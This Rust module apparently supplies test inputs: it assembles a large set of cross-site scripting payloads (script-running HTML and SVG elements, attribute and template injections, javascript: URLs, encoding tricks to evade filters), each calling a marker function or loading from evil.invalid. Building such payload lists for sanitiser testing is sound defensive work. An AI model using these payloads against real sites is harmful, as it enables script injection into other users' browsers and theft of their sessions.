//! Texts that run a script where a page takes them for more than texts. Each calls `ran`, which the scripts watch.

/// What ends the place that a text stands in, and what a filter might look for.
const ENDS: [&str; 14] = [
    "",
    "\">",
    "'>",
    ">",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</noscript>",
    "-->",
    "]]>",
    "</td></tr></table>",
    "</option></select>",
    "</code></pre>",
];

/// Elements that run something by themselves. `@` is the call, `#` an address elsewhere.
const ELEMENTS: [&str; 30] = [
    "<script>@</script>",
    "<SCRIPT SRC=#></SCRIPT>",
    "<img src=x onerror=@>",
    "<img src=# />",
    "<svg onload=@>",
    "<svg/onload=@//",
    "<svg><script>@</script></svg>",
    "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<svg><set onbegin=@ attributeName=x to=1>",
    "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>",
    "<svg><use href=#></svg>",
    "<math><mi//xlink:href=\"javascript:@\">",
    "<iframe srcdoc='<script>parent.@</script>'></iframe>",
    "<iframe src=javascript:parent.@></iframe>",
    "<object data=#></object>",
    "<embed src=#>",
    "<video src=x onerror=@></video>",
    "<audio src=x onerror=@></audio>",
    "<details open ontoggle=@>",
    "<input autofocus onfocus=@>",
    "<select autofocus onfocus=@></select>",
    "<body onload=@>",
    "<marquee onstart=@>",
    "<style>@import '#';</style>",
    "<style>@keyframes x{}</style><b style='animation:x 1s' onanimationstart=@>",
    "<link rel=stylesheet href=#>",
    "<meta http-equiv=refresh content='0;url=#'>",
    "<base href=#>",
    "<form action=# id=f><button autofocus onfocus=@>",
    "<template><img src=x onerror=@></template>",
];

/// What stands in an attribute, an address, a template, a sheet or a text of JSON.
const PLACES: [&str; 28] = [
    "\" onmouseover=\"@",
    "\" autofocus onfocus=\"@",
    "' autofocus onfocus='@",
    " autofocus onfocus=@ ",
    "` autofocus onfocus=`@",
    "\" style=\"background:url(#)",
    "javascript:@",
    "JaVaScRiPt:@",
    "java\tscript:@",
    "java\nscript:@",
    "\u{1}javascript:@",
    " javascript:@",
    "&#106;avascript:@",
    "javascript&colon;@",
    "data:text/html,<script>@</script>",
    "//evil.invalid/",
    "[a link](javascript:@)",
    "![a picture](#)",
    "`</code><img src=x onerror=@>`",
    "{{constructor.constructor('@')()}}",
    "{{ @ }}",
    "{% raw %}@{% endraw %}",
    "${@}",
    "<%= @ %>",
    "#{@}",
    "</script><script>@//",
    "';@;//",
    "\\u003cimg src=x onerror=@\\u003e",
];

/// How a text may be written that is decoded once more than it should.
const WRITINGS: [fn(&str) -> String; 6] = [
    |text| {
        text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
    },
    |text| text.replace('<', "&#60;").replace('>', "&#x3e;"),
    |text| text.replace('%', "%25").replace('<', "%3C").replace('>', "%3E").replace('"', "%22"),
    |text| text.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}"),
    |text| text.replace('<', "<\u{0}"),
    |text| text.replace(' ', "/\u{c}\n"),
];

/// All of them; each calls `ran` with its number.
pub(crate) fn payloads() -> Vec<String> {
    let elements = ELEMENTS.iter().flat_map(|element| ENDS.map(|end| format!("{end}{element}")));
    let places = PLACES.iter().map(|place| (*place).to_owned());
    let written = ELEMENTS.iter().flat_map(|element| WRITINGS.map(|write| write(element)));
    let all = elements.chain(places).chain(written).enumerate();
    all.map(|(number, text)| {
        // `@import` and `@keyframes` are words of style sheets.
        let text = text.replace("@import", "\u{2}import").replace("@keyframes", "\u{2}keyframes");
        let text = text.replace('@', &format!("ran({number})"));
        let text = text
            .replace("#{", "\u{3}")
            .replace("&#", "\u{4}")
            .replace('#', &format!("http://evil.invalid/{number}"));
        text.replace('\u{2}', "@").replace('\u{3}', "#{").replace('\u{4}', "&#")
    })
    .collect()
}
